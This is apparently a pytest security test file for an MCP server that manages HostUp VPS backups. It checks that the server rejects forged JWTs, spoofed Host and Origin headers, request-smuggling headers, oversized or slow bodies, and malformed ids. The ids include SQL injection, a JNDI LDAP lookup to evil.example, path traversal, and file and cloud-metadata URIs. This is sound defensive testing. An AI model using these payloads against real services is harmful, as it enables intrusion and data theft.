"""A server that others can reach rejects attacks, and sends nothing to HostUp."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import socket
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from cryptography.hazmat.primitives import serialization
from support.account import Upstream

from hostup_mcp.remote import bodies
from hostup_mcp.sandbox import SANDBOX_API_KEY

from .wiring import (
    ACCEPT,
    PUBLIC_URL,
    Caller,
    Issuer,
    Key,
    ServerThread,
    calling,
    headers_for,
    message,
    parse,
    rsa_key,
    serving,
    threads,
    token_file,
)

UNKNOWN_KEY = rsa_key("made-up")
OTHERS = 5
"""Seconds that a busy machine may take in addition to a time limit."""


@dataclass
class Servers:
    """Two servers with the same account: one with a token file, one with an issuer."""

    upstream: Upstream
    issuer: Issuer
    tokens: dict[str, str]
    bearer: ServerThread
    oauth: ServerThread

    @property
    def token(self) -> str:
        return self.tokens["web-team"]

    def with_tokens(self) -> list[tuple[ServerThread, str]]:
        """Each server with a valid token."""
        return [(self.bearer, self.token), (self.oauth, self.issuer.token())]


NEWCOMER = "new-team"
"""A caller that has been given no id, whatever ran before on the same server."""


@pytest.fixture(scope="module")
def servers_of_module(
    upstream_of_worker: Upstream,
    issuer_of_worker: Issuer,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Servers]:
    folder = tmp_path_factory.mktemp("attacks")
    path, tokens = token_file(folder, "web-team", "ops-team", NEWCOMER)
    bearer = serving(upstream_of_worker, HOSTUP_MCP_TOKENS=str(path), HOSTUP_MCP_ALLOW="all")
    oauth = serving(upstream_of_worker, HOSTUP_MCP_ALLOW="all", **issuer_of_worker.settings)
    with threads(bearer, oauth) as [one, other]:
        yield Servers(upstream_of_worker, issuer_of_worker, tokens, one, other)


@pytest.fixture
def servers(servers_of_module: Servers, upstream: Upstream) -> Servers:
    return servers_of_module


def nothing_reached_hostup(servers: Servers) -> bool:
    return servers.upstream.sandbox.requests == []


# Tokens -------------------------------------------------------------------------------------------

Make = Callable[[Servers], str | None]


def encoded(part: Any) -> str:
    return base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=").decode()


def unsigned(servers: Servers) -> str:
    head = encoded({"alg": "none", "kid": "first", "typ": "JWT"})
    return f"{head}.{encoded(servers.issuer.claims())}."


def signed_with_the_public_key(servers: Servers) -> str:
    public = servers.issuer.keys[0].private.public_key()
    secret = public.public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    signing = f"{encoded({'alg': 'HS256', 'kid': 'first'})}.{encoded(servers.issuer.claims())}"
    signature = hmac.new(secret, signing.encode(), hashlib.sha256).digest()
    return f"{signing}.{base64.urlsafe_b64encode(signature).rstrip(b'=').decode()}"


# tests/remote/test_oauth.py and test_tokens.py try every other way in which a token can be wrong.
JWTS: dict[str, Make] = {
    "none": lambda _: None,
    "wrong": lambda _: "wrong",
    "of-the-file": lambda h: h.token,
    "expired": lambda h: h.issuer.token(exp=1, iat=0),
    "wrong-audience": lambda h: h.issuer.token(aud="https://other.example.com"),
    "other-issuer": lambda h: h.issuer.token(iss="https://evil.example"),
    "alg-none": unsigned,
    "hs256-with-the-public-key": signed_with_the_public_key,
    "unknown-kid": lambda h: h.issuer.token(UNKNOWN_KEY),
    "another-key-of-that-id": lambda h: h.issuer.token(Key("first", UNKNOWN_KEY.private)),
    "huge": lambda h: h.issuer.token(extra="x" * 20_000),
}

BEARERS: dict[str, Make] = {
    "none": lambda _: None,
    "wrong": lambda _: "hmcp_" + "A" * 43,
    "hash-of-the-token": lambda h: hashlib.sha256(h.token.encode()).hexdigest(),
    "two-tokens": lambda h: f"{h.token} {h.token}",
    "huge": lambda _: "x" * 20_000,
    "of-an-issuer": lambda h: h.issuer.token(),
    "key-of-hostup": lambda _: SANDBOX_API_KEY,
}


async def rejected(server: ServerThread, token: str | None) -> httpx.Response:
    async with calling() as client:
        response = await Caller(client, server.url, token).post("tools/call", name="list_vps")
        assert response.status_code == 401, response.text
        assert response.headers["www-authenticate"].startswith("Bearer ")
        assert 'error="invalid_token"' in response.headers["www-authenticate"]
        assert not token or len(token) < 8 or token not in response.text + str(response.headers)
        return response


@pytest.mark.parametrize("which", JWTS)
async def test_invalid_jwt_gets_401(servers: Servers, which: str) -> None:
    response = await rejected(servers.oauth, JWTS[which](servers))
    described = f"{PUBLIC_URL}/.well-known/oauth-protected-resource/mcp"
    assert f'resource_metadata="{described}"' in response.headers["www-authenticate"]
    assert nothing_reached_hostup(servers)


@pytest.mark.parametrize("which", BEARERS)
async def test_invalid_bearer_token_gets_401(servers: Servers, which: str) -> None:
    await rejected(servers.bearer, BEARERS[which](servers))
    assert nothing_reached_hostup(servers)


async def test_token_only_counts_in_its_header(servers: Servers) -> None:
    """A server that rejected everything would pass the other tests."""
    async with calling() as client:
        for server, token in servers.with_tokens():
            assert await Caller(client, server.url, token).find("web-01")
            before = len(servers.upstream.sandbox.requests)
            body = message("tools/call", name="list_vps", arguments={})
            for name in ("access_token", "token", "bearer_token", "authorization"):
                response = await client.post(
                    server.url, params={name: token}, json=body, headers=headers_for(body)
                )
                assert response.status_code == 401
            for scheme in ("Basic", "Token", "bearertoken", ""):
                given = {**headers_for(body), "Authorization": f"{scheme} {token}".strip()}
                response = await client.post(server.url, json=body, headers=given)
                assert response.status_code == 401
            body["access_token"] = token
            response = await client.post(server.url, json=body, headers=headers_for(body))
            assert response.status_code == 401
            cookie = {**headers_for(body), "Cookie": f"access_token={token}; token={token}"}
            response = await client.post(server.url, json=body, headers=cookie)
            assert response.status_code == 401
            assert len(servers.upstream.sandbox.requests) == before


@pytest.mark.parametrize("scope", ["", "other", "hostups", "HOSTUP", "hostup:read"])
async def test_missing_scope_is_named(servers: Servers, scope: str) -> None:
    async with calling() as client:
        caller = Caller(client, servers.oauth.url, servers.issuer.token(scope=scope))
        response = await caller.post("tools/call", name="list_vps", arguments={})
    assert response.status_code == 403
    challenge = response.headers["www-authenticate"]
    assert 'error="insufficient_scope"' in challenge
    assert "resource_metadata=" in challenge
    assert 'scope="hostup"' in challenge
    assert nothing_reached_hostup(servers)


async def test_first_challenge(servers: Servers) -> None:
    async with calling() as client:
        response = await rejected(servers.oauth, None)
        assert 'scope="hostup"' in response.headers["www-authenticate"]
        url = response.headers["www-authenticate"].split('resource_metadata="')[1].split('"')[0]
        described = await client.get(url.replace(PUBLIC_URL, servers.oauth.base))
    assert described.status_code == 200
    assert described.json()["resource"] == f"{PUBLIC_URL}/mcp"
    assert described.json()["authorization_servers"]


async def test_token_never_reaches_hostup(servers: Servers) -> None:
    async with calling() as client:
        for server, token in servers.with_tokens():
            caller = Caller(client, server.url, token)
            _, plan = await caller.plan()
            response = await caller.call("restore_vps", planId=plan)
            await caller.call("restore_vps", response.accept(), planId=plan)
            requests = servers.upstream.sandbox.requests
            assert len(requests) > 4
            for request in requests:
                assert request.headers["authorization"] == f"Bearer {SANDBOX_API_KEY}"
                assert token not in repr(request)
            servers.upstream.sandbox.requests.clear()
            servers.upstream.sandbox.state.jobs.clear()


# Where it comes from ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({"Host": "evil.example"}, 421),
        ({"Host": "evil.example:80"}, 421),
        ({"Host": "127.0.0.1.evil.example:80"}, 421),
        ({"Host": "localhost.evil.example"}, 421),
        ({"Host": ""}, 421),
        ({"Origin": "https://evil.example"}, 403),
        ({"Origin": "null"}, 403),
        ({"Origin": "http://127.0.0.1.evil.example"}, 403),
        ({"Origin": "file://"}, 403),
        ({"Host": "evil.example", "X-Forwarded-Host": "127.0.0.1:80"}, 421),
        ({"Origin": "https://evil.example", "X-Forwarded-Proto": "https"}, 403),
    ],
    ids=str,
)
async def test_foreign_host_or_origin(
    servers: Servers, headers: dict[str, str], status: int
) -> None:
    async with calling() as client:
        caller = Caller(client, servers.bearer.url, servers.token)
        response = await caller.post("tools/call", headers, name="list_vps", arguments={})
    assert response.status_code == status
    assert "access-control-allow-origin" not in response.headers
    assert nothing_reached_hostup(servers)


# Bodies -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("declared", [True, False], ids=["declared", "in-chunks"])
async def test_large_body_gets_413(servers: Servers, declared: bool) -> None:
    body = message("tools/call", name="list_vps", arguments={"name": "x" * 5_000_000})
    content = json.dumps(body).encode()

    async def parts() -> Any:
        for start in range(0, len(content), 65_536):
            yield content[start : start + 65_536]

    async with calling() as client:
        response = await client.post(
            servers.bearer.url,
            content=content if declared else parts(),
            headers=headers_for(body, servers.token),
        )
    assert response.status_code == 413
    assert nothing_reached_hostup(servers)


@pytest.mark.parametrize(
    "content",
    [b"", b"{", b"what is this", b"\xff\xfe", b'{"jsonrpc": "2.0"', b"\x00" * 100],
    ids=repr,
)
async def test_invalid_json_is_a_parse_error(servers: Servers, content: bytes) -> None:
    async with calling() as client:
        headers = headers_for(message("tools/list"), servers.token)
        response = await client.post(servers.bearer.url, content=content, headers=headers)
    assert response.status_code == 400
    assert response.json()["error"]["code"] == -32700


@pytest.mark.parametrize(
    "content",
    [
        b"[]",
        b"7",
        b"null",
        b"{}",
        b'[{"jsonrpc": "2.0", "id": 1, "method": "tools/list"}]',
        b'{"jsonrpc": "1.0", "id": 1, "method": "tools/list"}',
        b'{"jsonrpc": "2.0", "id": {}, "method": "tools/list"}',
        b'{"jsonrpc": "2.0", "id": 1, "method": 7}',
        b"[" * 60_000,
        b'{"a":' * 12_000,
    ],
    ids=range(10),
)
async def test_json_that_is_no_request(servers: Servers, content: bytes) -> None:
    async with calling() as client:
        headers = headers_for(message("tools/list"), servers.token)
        response = await client.post(servers.bearer.url, content=content, headers=headers)
        assert response.status_code == 400
        assert "Traceback" not in response.text
        assert await Caller(client, servers.bearer.url, servers.token).tools(), (
            "the server still works"
        )


def exchange(server: ServerThread, content: bytes, seconds: float = 10) -> bytes:
    """Send raw bytes, and read until the server closes or is silent."""
    with socket.create_connection(("127.0.0.1", server.port), timeout=seconds) as line:
        line.sendall(content)
        parts = []
        try:
            while part := line.recv(65_536):
                parts.append(part)
                if b"\r\n\r\n" in b"".join(parts):
                    line.settimeout(0.3)
        except (TimeoutError, ConnectionResetError):
            pass
        return b"".join(parts)


def head(servers: Servers, *more: bytes, length: int | None = 2) -> bytes:
    lines = [
        b"POST /mcp HTTP/1.1",
        f"Host: 127.0.0.1:{servers.bearer.port}".encode(),
        f"Authorization: Bearer {servers.token}".encode(),
        b"Content-Type: application/json",
        f"Accept: {ACCEPT}".encode(),
    ]
    if length is not None:
        lines.append(f"Content-Length: {length}".encode())
    return b"\r\n".join([*lines, *more, b"", b""])


@pytest.mark.parametrize("pause", [0.1, None], ids=["trickle", "silence"])
def test_slow_body_is_closed(
    servers: Servers, pause: float | None, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(bodies, "BODY_SECONDS", 0.5)
    began = time.monotonic()
    response = b""
    with socket.create_connection(("127.0.0.1", servers.bearer.port)) as line:
        line.sendall(head(servers, length=60_000) + b"{")
        line.settimeout(pause or OTHERS)
        while time.monotonic() - began < OTHERS:
            try:
                if not (part := line.recv(65_536)):
                    break
                response += part
            except TimeoutError:
                line.sendall(b" ")
            except OSError:
                break
        else:
            pytest.fail("the connection is still open")
    assert response.startswith(b"HTTP/1.1 408"), response[:200]
    assert nothing_reached_hostup(servers)


@pytest.mark.parametrize("method", [b"DELETE", b"GET", b"OPTIONS", b"HEAD", b"PUT"])
def test_endless_body_is_not_awaited(servers: Servers, method: bytes) -> None:
    given = head(servers, b"Transfer-Encoding: chunked", length=None)
    with socket.create_connection(("127.0.0.1", servers.bearer.port)) as line:
        line.settimeout(OTHERS)
        line.sendall(given.replace(b"POST", method) + b"5\r\nhello\r\n")
        assert line.recv(65_536).startswith(b"HTTP/1.1 4")
        response = b"more"
        while response:
            try:
                response = line.recv(65_536)
            except ConnectionError:
                break


async def test_largest_body_has_room(servers: Servers) -> None:
    """What a call needs at most: a yes, with the sealed question."""
    async with calling() as client:
        mine = Caller(client, servers.bearer.url, servers.token)
        _, plan = await mine.plan()
        asked = await mine.call("restore_vps", planId=plan)
    yes = message("tools/call", name="restore_vps", arguments={"planId": plan}, **asked.accept())
    assert len(json.dumps(yes)) < bodies.MAX_BODY_BYTES / 16


def test_401_comes_before_the_body(servers: Servers) -> None:
    began = time.monotonic()
    given = head(servers, length=4_000_000).replace(servers.token.encode(), b"wrong")
    assert exchange(servers.bearer, given).startswith(b"HTTP/1.1 401")
    assert time.monotonic() - began < OTHERS


# Headers ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "more",
    [
        b"X-Thing: a\nX-Evil: b",
        b"X-Thing: a\rb",
        b"X-Thing: a\x00b",
        b"X Thing: a",
        b": a",
        b"Host: evil.example",
        b"Transfer-Encoding: chunked\r\nContent-Length: 3",
        b"Content-Length: 5",
        b"Content-Length: -1",
        b"Transfer-Encoding: xchunked",
        b"X-Long: " + b"x" * 200_000,
    ],
    ids=range(11),
)
def test_ambiguous_headers(servers: Servers, more: bytes) -> None:
    response = exchange(servers.bearer, head(servers, more) + b"{}")
    status = response.split(b" ", 2)[1:2]
    if not response:
        return  # it closed the connection
    assert status in ([b"400"], [b"421"], [b"431"], [b"501"]), response[:200]
    assert b"Traceback" not in response
    assert response.count(b"HTTP/1.1 ") == 1, "one request, one response"


@pytest.mark.parametrize(
    "headers",
    [
        {"Mcp-Name": "list_vps_backups"},
        {"Mcp-Name": ""},
        {"Mcp-Method": "tools/list"},
        {"Mcp-Method": ""},
        {"MCP-Protocol-Version": "2025-11-25"},
        {"MCP-Protocol-Version": "9999-01-01"},
        {"MCP-Protocol-Version": "x" * 5_000},
    ],
    ids=lambda h: next(iter(h.items()))[0] + next(iter(h.values()))[:12],
)
async def test_headers_contradicting_body(servers: Servers, headers: dict[str, str]) -> None:
    async with calling() as client:
        caller = Caller(client, servers.bearer.url, servers.token)
        response = await caller.post("tools/call", headers, name="list_vps", arguments={})
    assert response.status_code in (400, 404), response.text
    assert nothing_reached_hostup(servers)


async def test_forwarded_headers_are_ignored(servers: Servers) -> None:
    async with calling() as client:
        mine = Caller(client, servers.bearer.url, servers.token)
        vps = await mine.find("web-01")
        others = Caller(client, servers.bearer.url, servers.tokens[NEWCOMER])
        headers = {
            "X-Forwarded-User": "web-team",
            "X-Remote-User": "web-team",
            "X-Client-Id": "web-team",
            "X-Forwarded-For": "127.0.0.1",
        }
        response = await others.post(
            "tools/call", headers, name="list_vps_backups", arguments={"id": vps}
        )
    assert parse(response)["result"]["structuredContent"]["error"]["kind"] == "unknown_id"


# Ids ----------------------------------------------------------------------------------------------

IDS = [
    "vps_1\r\nX-Evil: 1",
    "vps_1\n",
    "vps_1%0d%0aX-Evil: 1",
    "vps_1/../../jobs",
    "vps_1%2F..%2F..%2Fjobs",
    "vps_1?limit=1",
    "vps_1#",
    "../vps_12345",
    "vps_" + "a" * 20_000,
    "vps_1\x00",
    "vps_１２３４",
    "'; DROP TABLE vps; --",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "http://evil.example/vps_1",
    "",
]


@pytest.mark.parametrize("id_", IDS, ids=range(len(IDS)))
async def test_malformed_id_sends_nothing(servers: Servers, id_: str) -> None:
    async with calling() as client:
        caller = Caller(client, servers.bearer.url, servers.token)
        result = await caller.call("list_vps_backups", id=id_)
        assert result.kind in ("invalid_arguments", "unknown_id")
        assert len(result.text) < 2_000
        assert "\r" not in result.text
        for tool, arguments in (
            ("plan_restore", {"id": id_, "mode": "in_place", "backupId": id_}),
            ("create_vps_backup", {"id": id_}),
            ("get_job", {"jobId": id_}),
            ("restore_vps", {"planId": id_}),
        ):
            refused = await caller.call(tool, **arguments)
            assert refused.kind in ("invalid_arguments", "unknown_id")
        uri = f"hostup://vps/{id_}/backups"
        body = message("resources/read", uri=uri)
        response = await client.post(
            caller.url, json=body, headers=headers_for(body, servers.token)
        )
        assert "error" in parse(response)
    assert nothing_reached_hostup(servers)


async def test_foreign_uri_sends_nothing(servers: Servers) -> None:
    async with calling() as client:
        caller = Caller(client, servers.bearer.url, servers.token)
        vps = await caller.find("web-01")
        servers.upstream.sandbox.requests.clear()
        for uri in (
            f"hostup://vps/{vps}%2F..%2F..%2Fjobs/backups",
            f"hostup://vps/{vps}/../../jobs/backups",
            "hostup://vps/..%2F..%2Fapi/backups",
            "file:///etc/passwd",
            "http://169.254.169.254/latest/meta-data",
            f"hostup://vps/{vps}/backups?x=1",
            f"hostup://vps/{vps}%00/backups",
        ):
            response = await caller.post("resources/read", uri=uri)
            assert "error" in parse(response), uri
    assert nothing_reached_hostup(servers)


# What belongs to another caller -------------------------------------------------------------------


async def test_foreign_id_is_unknown(servers: Servers) -> None:
    async with calling() as client:
        mine = Caller(client, servers.bearer.url, servers.token)
        others = Caller(client, servers.bearer.url, servers.tokens[NEWCOMER])
        vps = await mine.find("mail")
        backups = (await mine.ok("list_vps_backups", id=vps))["backups"]
        before = len(servers.upstream.sandbox.requests)
        assert (await others.call("list_vps_backups", id=vps)).kind == "unknown_id"
        assert (await others.call("create_vps_backup", id=vps)).kind == "unknown_id"
        refused = await others.call(
            "plan_restore", id=vps, mode="in_place", backupId=backups[0]["id"]
        )
        assert refused.kind == "unknown_id"
        response = await others.post("resources/read", uri=f"hostup://vps/{vps}/backups")
        assert "error" in parse(response)
        completed = await others.result_of(
            "completion/complete",
            ref={"type": "ref/resource", "uri": "hostup://vps/{id}/backups"},
            argument={"name": "id", "value": vps[:6]},
        )
        assert vps not in completed["completion"]["values"]
        assert len(servers.upstream.sandbox.requests) == before


async def test_foreign_plan_is_refused(servers: Servers) -> None:
    async with calling() as client:
        mine = Caller(client, servers.bearer.url, servers.token)
        others = Caller(client, servers.bearer.url, servers.tokens["ops-team"])
        _, plan = await mine.plan()
        await others.plan()
        refused = await others.call("restore_vps", planId=plan)
    assert refused.kind == "plan_again"
    assert "this caller has no plan" in refused.text
    assert servers.upstream.sandbox.writes == []


async def test_altered_plan_is_refused(servers: Servers) -> None:
    async with calling() as client:
        mine = Caller(client, servers.bearer.url, servers.token)
        _, plan = await mine.plan()
        elsewhere = Caller(client, servers.oauth.url, servers.issuer.token())
        _, foreign = await elsewhere.plan()
        swapped = plan[:-1] + ("a" if plan[-1] != "a" else "b")
        for wrong in (swapped, foreign):
            assert (await mine.call("restore_vps", planId=wrong)).kind == "plan_again", wrong
        for wrong in (plan[:-4], plan.upper(), "v1.AAAA", "plan_" + "a" * 2_000):
            assert (await mine.call("restore_vps", planId=wrong)).kind == "invalid_arguments", wrong
        assert servers.upstream.sandbox.writes == []


async def test_another_users_yes_is_refused(servers: Servers) -> None:
    async with calling() as client:
        mine = Caller(client, servers.bearer.url, servers.token)
        others = Caller(client, servers.bearer.url, servers.tokens["ops-team"])
        _, plan = await mine.plan()
        asked = await mine.call("restore_vps", planId=plan)
        _, theirs = await others.plan()
        await others.call("restore_vps", planId=theirs)
        for plan_id in (plan, theirs):
            response = await others.post(
                "tools/call",
                name="restore_vps",
                arguments={"planId": plan_id},
                **asked.accept(),
            )
            assert response.status_code == 400, response.text
            assert parse(response)["error"]["data"]["reason"] == "invalid_request_state"
        assert servers.upstream.sandbox.writes == []


async def test_yes_fits_one_question(servers: Servers) -> None:
    async with calling() as client:
        mine = Caller(client, servers.bearer.url, servers.token)
        _, plan = await mine.plan("web-01")
        _, other = await mine.plan("web-01")
        asked = await mine.call("restore_vps", planId=plan)
        response = await mine.post(
            "tools/call", name="restore_vps", arguments={"planId": other}, **asked.accept()
        )
        assert response.status_code == 400
        without_state = {"inputResponses": asked.accept()["inputResponses"]}
        again = await mine.call("restore_vps", without_state, planId=plan)
        assert servers.upstream.sandbox.writes == [] or again.kind, again.raw
        assert servers.upstream.sandbox.writes == []


async def test_yes_counts_once(servers: Servers) -> None:
    async with calling() as client:
        mine = Caller(client, servers.bearer.url, servers.token)
        _, plan = await mine.plan()
        asked = await mine.call("restore_vps", planId=plan)
        first = await mine.call("restore_vps", asked.accept(), planId=plan)
        assert first.kind is None, first.text
        for _ in range(3):
            again = await mine.call("restore_vps", asked.accept(), planId=plan)
            assert again.kind == "plan_used"
        assert len(servers.upstream.sandbox.writes) == 1


def handshake(number: int, method: str, **params: Any) -> dict[str, Any]:
    return {"jsonrpc": "2.0", "id": number, "method": method, "params": params}


INITIALIZE = handshake(
    1,
    "initialize",
    protocolVersion="2025-11-25",
    capabilities={},
    clientInfo={"name": "raw", "version": "1"},
)


async def test_foreign_session_is_unknown(servers: Servers) -> None:
    async with calling() as client:

        async def post(
            token: str | None, body: dict[str, Any], session: str | None = None
        ) -> httpx.Response:
            headers = {"Accept": ACCEPT, "MCP-Protocol-Version": "2025-11-25"}
            if token is not None:
                headers["Authorization"] = f"Bearer {token}"
            if session is not None:
                headers["Mcp-Session-Id"] = session
            return await client.post(servers.bearer.url, json=body, headers=headers)

        opened = await post(servers.token, INITIALIZE)
        assert opened.status_code == 200
        session = opened.headers["mcp-session-id"]
        await post(
            servers.token, {"jsonrpc": "2.0", "method": "notifications/initialized"}, session
        )
        listing = handshake(2, "tools/list")
        assert (await post(servers.token, listing, session)).status_code == 200
        others = servers.tokens["ops-team"]
        assert (await post(others, listing, session)).status_code == 404
        assert (await post(None, listing, session)).status_code == 401
        assert (await post(others, listing, "0" * 32)).status_code == 404
        stop = {"Authorization": f"Bearer {others}", "Mcp-Session-Id": session}
        assert (await client.delete(servers.bearer.url, headers=stop)).status_code == 404
        assert (await post(servers.token, listing, session)).status_code == 200, "it still exists"


async def test_foreign_sse_stream_is_unknown(upstream: Upstream, tmp_path: Path) -> None:
    path, tokens = token_file(tmp_path, "web-team", "ops-team")
    env = serving(upstream, HOSTUP_MCP_TOKENS=str(path))
    with threads(env, transport="sse") as [server]:
        async with calling() as client:

            async def post(where: str, token: str | None) -> int:
                given = {"Authorization": f"Bearer {token}"} if token is not None else {}
                response = await client.post(server.base + where, json=INITIALIZE, headers=given)
                return response.status_code

            mine, others = tokens["web-team"], tokens["ops-team"]
            for token in (None, "wrong"):
                given = {"Authorization": f"Bearer {token}"} if token else {}
                assert (await client.get(server.url, headers=given)).status_code == 401
            given = {"Authorization": f"Bearer {mine}"}
            async with client.stream("GET", server.url, headers=given) as stream:
                assert stream.status_code == 200
                lines = stream.aiter_lines()
                while not (line := await anext(lines)).startswith("data:"):
                    pass
                where = line.removeprefix("data:").strip()
                assert await post(where, None) == 401
                assert await post(where, "wrong") == 401
                assert await post(where, others) == 404
                assert await post(where, mine) == 202, "it still exists"
            foreign = {"Authorization": f"Bearer {mine}", "Origin": "https://evil.example"}
            assert (await client.get(server.url, headers=foreign)).status_code == 403


async def test_clients_of_one_subject_are_separate(servers: Servers) -> None:
    async with calling() as client:
        desk = Caller(client, servers.oauth.url, servers.issuer.token(client_id="desk"))
        phone = Caller(client, servers.oauth.url, servers.issuer.token(client_id="phone"))
        again = Caller(client, servers.oauth.url, servers.issuer.token(client_id="desk", jti="2"))
        vps = await desk.find("web-01")
        assert (await phone.call("list_vps_backups", id=vps)).kind == "unknown_id"
        assert (await again.call("list_vps_backups", id=vps)).kind is None, (
            "a new token of the same client works"
        )


def test_other_paths_get_404(servers: Servers) -> None:
    for path in ("/", "/metrics", "/mcp/../admin", "/docs", "/openapi.json", "/sse", "/.env"):
        with httpx.Client(trust_env=False, timeout=10) as client:
            given = {"Authorization": f"Bearer {servers.token}"}
            response = client.get(servers.bearer.base + path, headers=given)
        assert response.status_code == 404, path


def test_no_server_header(servers: Servers) -> None:
    with httpx.Client(trust_env=False, timeout=10) as client:
        assert "server" not in client.get(servers.bearer.base + "/healthz").headers


@pytest.mark.parametrize("which", ["bearer", "oauth"])
async def test_every_method_needs_a_token(servers: Servers, tmp_path: Path, which: str) -> None:
    server: ServerThread = getattr(servers, which)
    async with calling() as client:
        for method in ("GET", "DELETE", "POST", "OPTIONS", "PUT"):
            response = await client.request(method, server.url, headers={"Accept": ACCEPT})
            assert response.status_code in (401, 405), method
